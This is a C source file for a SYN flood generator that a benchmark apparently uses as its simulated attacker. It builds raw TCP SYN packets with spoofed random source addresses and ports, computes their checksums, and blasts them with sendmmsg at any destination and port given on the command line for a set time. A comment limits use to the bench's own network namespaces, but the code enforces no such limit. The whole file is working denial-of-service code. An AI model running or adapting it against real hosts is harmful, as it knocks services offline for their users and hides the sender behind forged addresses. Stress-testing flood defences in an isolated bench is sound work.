/* synflood.c — bench/flood.sh's attacker: TCP SYNs with random IPv4 source
 * addresses (10.128.0.0/9) and ports to DST:PORT through a raw socket, as fast
 * as sendmmsg goes, for SECONDS; prints how many it sent. Only ever run inside
 * the bench's own network namespaces. Usage: synflood DST PORT SECONDS */
#define _GNU_SOURCE /* sendmmsg */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

static uint32_t rng = 2463534242u;

static uint32_t next(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 17;
	rng ^= rng << 5;
	return rng;
}

static uint16_t csum(const void *p, size_t n, uint32_t sum)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		sum += (uint32_t)b[n - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* One SYN from a random 10.128/9 source: IPv4 header (checksum by the
 * kernel with IP_HDRINCL) and TCP header with its checksum. */
static void build(uint8_t *pkt, uint32_t dst, uint16_t dport)
{
	uint32_t src = htonl(0x0a800000u | (next() & 0x007fffffu));
	uint16_t sport = (uint16_t)(1024 + next() % 60000);
	memset(pkt, 0, 40);
	pkt[0] = 0x45;
	pkt[3] = 40;
	pkt[6] = 0x40;
	pkt[8] = 64;
	pkt[9] = 6;
	memcpy(pkt + 12, &src, 4);
	memcpy(pkt + 16, &dst, 4);
	uint8_t *t = pkt + 20;
	t[0] = (uint8_t)(sport >> 8);
	t[1] = (uint8_t)sport;
	t[2] = (uint8_t)(dport >> 8);
	t[3] = (uint8_t)dport;
	uint32_t seq = next();
	memcpy(t + 4, &seq, 4);
	t[12] = 5 << 4;
	t[13] = 0x02;
	t[14] = 0xfa;
	t[15] = 0xf0;
	uint8_t pseudo[12];
	memcpy(pseudo, pkt + 12, 8);
	pseudo[8] = 0;
	pseudo[9] = 6;
	pseudo[10] = 0;
	pseudo[11] = 20;
	uint32_t sum = 0;
	for (int i = 0; i < 12; i += 2)
		sum += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
	uint16_t c = csum(t, 20, sum);
	t[16] = (uint8_t)(c >> 8);
	t[17] = (uint8_t)c;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: synflood DST PORT SECONDS\n");
		return 2;
	}
	struct sockaddr_in to = {.sin_family = AF_INET};
	if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	uint16_t port = (uint16_t)atoi(argv[2]);
	double seconds = atof(argv[3]);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket");
		return 1;
	}
	static uint8_t pkts[BATCH][40];
	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH];
	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){pkts[i], 40};
		msgs[i].msg_hdr = (struct msghdr){.msg_name = &to,
		                                  .msg_namelen = sizeof to,
		                                  .msg_iov = &iov[i],
		                                  .msg_iovlen = 1};
	}
	struct timespec t0, t;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	unsigned long long sent = 0;
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &t);
		if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 >=
		    seconds)
			break;
		for (int i = 0; i < BATCH; i++)
			build(pkts[i], to.sin_addr.s_addr, port);
		int n = sendmmsg(fd, msgs, BATCH, 0);
		if (n > 0)
			sent += (unsigned)n;
	}
	printf("%llu\n", sent);
	return 0;
}
